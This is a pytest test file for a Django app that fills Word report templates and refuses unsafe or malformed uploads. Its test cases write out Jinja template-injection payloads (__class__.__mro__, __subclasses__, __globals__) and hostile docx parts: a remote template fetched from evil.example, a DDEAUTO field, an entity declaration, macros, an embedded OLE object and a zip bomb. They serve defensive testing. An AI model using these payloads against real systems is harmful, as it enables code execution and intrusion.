"""A ministry's own Word template: filled with the report, or refused with the sentence that says how to correct it."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx
import pytest
from django.utils.translation import override

from floreo.core.errors import Refused
from floreo.organisations.models import User
from floreo.reports.actions import close_review, save_template
from floreo.reports.models import WordTemplate
from floreo.reports.queries import summary_of
from floreo.reports.word.filling import default_template
from floreo.reports.word.refusing import check, fill
from floreo.reviews.models import Review

pytestmark = pytest.mark.django_db


def template(*paragraphs: str) -> bytes:
    document = docx.Document()
    for words in paragraphs:
        document.add_paragraph(words)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def changed(content: bytes, change: Callable[[str, bytes], bytes] | None = None, **more: bytes) -> bytes:
    """The file with its parts changed, and others put in."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            body = old.read(name)
            new.writestr(name, change(name, body) if change else body)
        for name, body in more.items():
            new.writestr(name.replace("__", "/"), body)
    return out.getvalue()


def all_text(content: bytes) -> str:
    document = docx.Document(io.BytesIO(content))
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    return "\n".join([*(p.text for p in document.paragraphs), *cells, document.sections[0].footer.paragraphs[0].text])


@pytest.mark.long
def test_our_own_template_is_sound_and_fills_with_every_kind_of_field(review: Review, secretariat: User) -> None:
    own = default_template()
    assert "late[].title" in check(own)
    filled = all_text(fill(own, summary_of(close_review(review, by=secretariat))))
    assert "{" not in filled
    for words in ("Progress report, Q3 2026", "Two of 3 actions", "Action 1.1.2", "Late", "audit entry"):
        assert words in filled, words


def test_it_fills_in_spanish(review: Review, secretariat: User) -> None:
    summary = summary_of(close_review(review, by=secretariat))
    with override("es"):
        assert "T3 2026" in all_text(fill(template("{{ period }}"), summary))


@pytest.mark.long
def test_texts_of_the_plan_are_words_in_it_never_markup_or_code(
    review: Review, secretariat: User, acts: list[object]
) -> None:
    from floreo.strategy.models import Action

    Action.objects.filter(code="1.1.2").update(title="<w:p>{{ 7*7 }} & </w:t>\x0b")
    summary = summary_of(close_review(review, by=secretariat))
    made = all_text(fill(template("{%p for one in late %}", "{{ one.title }}", "{%p endfor %}"), summary))
    assert "<w:p>{{ 7*7 }} & </w:t>" in made


@pytest.mark.first_cases(2)
@pytest.mark.parametrize(
    ("words", "text"),
    [
        ("{{ headlin }}", "no field “headlin”. Did you mean “headline”?"),
        ("{% for a in late %}{{ a.titel }}{% endfor %}", "no field “late[].titel”. Did you mean “late[].title”?"),
        ("{{ zzzz }}", "no field “zzzz”. Use a field from the list of fields"),
        ("{{ headline", "”: write {{ name }}, and end each {% for %}."),
        ("{% for a in headline %}{% endfor %}", "” is not a list that can be repeated."),
        ("{{ headline.__class__.__mro__ }}", "no field “headline.__class__"),
        (
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "A template can show fields, repeat lists and check whether something exists. “",
        ),
        ("{{ headline|attr('__class__') }}", "cannot use the filter “attr”"),
        ("{{ late[0] }}", "A template can show fields, repeat lists and check whether something exists. “"),
        ("{{ self.__init__.__globals__ }}", "no field “self"),
        ("{{ cycler.__init__ }}", "no field “cycler"),
        ("{% set x = 1 %}", "A template can show fields, repeat lists and check whether something exists. “"),
        ("{% include 'x' %}", "A template can show fields, repeat lists and check whether something exists. “"),
        ("{{ 10**10**10 }}", "A template can show fields, repeat lists and check whether something exists. “"),
        (
            "{% for a in range(10) %}{% endfor %}",
            "A field must be a name from the list of fields. Calculations are not filled in.",
        ),
        (
            "{% macro m() %}{% endmacro %}",
            "A template can show fields, repeat lists and check whether something exists. “",
        ),
        ("{{ headline|upper|format }}", "cannot use the filter “format”"),
    ],
)
def test_a_field_that_is_none_or_does_too_much_is_named(words: str, text: str) -> None:
    with pytest.raises(Refused) as refused:
        check(template(words))
    assert text in str(refused.value.sentence)
    assert list(refused.value.fields) == ["file"]


def test_fields_hide_nowhere_in_the_file() -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "{{ nonsense }}"
    out = io.BytesIO()
    document.save(out)
    with pytest.raises(Refused, match="nonsense"):
        check(out.getvalue())
    document = docx.Document()
    document.core_properties.title = "{{ config }}"
    out = io.BytesIO()
    document.save(out)
    with pytest.raises(Refused, match="config"):
        check(out.getvalue())


def with_type(kind: bytes) -> Callable[[str, bytes], bytes]:
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return lambda name, body: body.replace(main, kind) if name == "[Content_Types].xml" else body


def with_relation(words: bytes) -> Callable[[str, bytes], bytes]:
    return lambda name, body: (
        body.replace(b"</Relationships>", words + b"</Relationships>")
        if name == "word/_rels/document.xml.rels"
        else body
    )


REMOTE = (
    b'<Relationship Id="rIdX" TargetMode="External" Target="https://evil.example/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)
FILE_LINK = REMOTE.replace(b"attachedTemplate", b"hyperlink").replace(
    b"https://evil.example/t.dotm", b"file://server/share"
)
DDE = b'<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r></w:p><w:sectPr'


@pytest.mark.first_cases(2)
@pytest.mark.parametrize(
    ("content", "text"),
    [
        (lambda: changed(template("x"), word__vbaProject_=b"x").replace(b"vbaProject_", b"vbaProject."), "macros"),
        (
            lambda: changed(template("x"), with_type(b"application/vnd.ms-word.document.macroEnabled.main+xml")),
            "macros",
        ),
        (lambda: changed(template("x"), word__embeddings__oleObject1=b"x"), "contains a program"),
        (
            lambda: changed(
                template("x"),
                with_type(b"application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
            ),
            "not a plain Word document",
        ),
        (lambda: changed(template("x"), with_relation(REMOTE)), "loads something from outside (https://evil.example"),
        (lambda: changed(template("x"), with_relation(FILE_LINK)), "loads something from outside (file:"),
        (
            lambda: changed(
                template("x"), lambda n, b: b.replace(b"<w:sectPr", DDE, 1) if n == "word/document.xml" else b
            ),
            "the Word field DDEAUTO",
        ),
        (
            lambda: changed(
                template("x"), lambda n, b: b'<!DOCTYPE a [<!ENTITY b "c">]>' + b if n == "word/document.xml" else b
            ),
            "defines entities",
        ),
        (
            lambda: template("x")[:900],
            "This Word file is damaged or incomplete. Open it in Word, save it as .docx and send the new file.",
        ),
        (
            lambda: b"%PDF-1.7",
            "This Word file is damaged or incomplete. Open it in Word, save it as .docx and send the new file.",
        ),
        (
            lambda: changed(template("x"), word__media__bomb=b"\0" * (61 * 1024 * 1024)),
            "Unpacked, this file is much larger than a Word file. It was not opened.",
        ),
        (lambda: b"x" * (6 * 1024 * 1024), "larger than 5 MB"),
    ],
)
def test_a_harmful_or_broken_file_is_refused_with_what_to_do(content: Callable[[], bytes], text: str) -> None:
    with pytest.raises(Refused) as refused:
        check(content())
    assert text in str(refused.value.sentence)


def test_a_sound_one_is_kept_once_with_the_fields_it_uses(secretariat: User) -> None:
    body = template("{{ country }}: {{ headline }}")
    kept = save_template(body, by=secretariat, name="Cabinet paper", file_name="../x/Cabinet.docx", language="es")
    assert (kept.code, kept.file_name, kept.fields_used, bytes(WordTemplate.objects.get().content)) == (
        "cabinet-paper",
        "Cabinet.docx",
        ["country", "headline"],
        body,
    )
    with pytest.raises(Refused, match="already here, as “Cabinet paper”"):
        save_template(body, by=secretariat, name="Again", file_name="a.docx")
    with pytest.raises(Refused, match=r"ends in \.docx"):
        save_template(template("x"), by=secretariat, name="M", file_name="macro.docm")
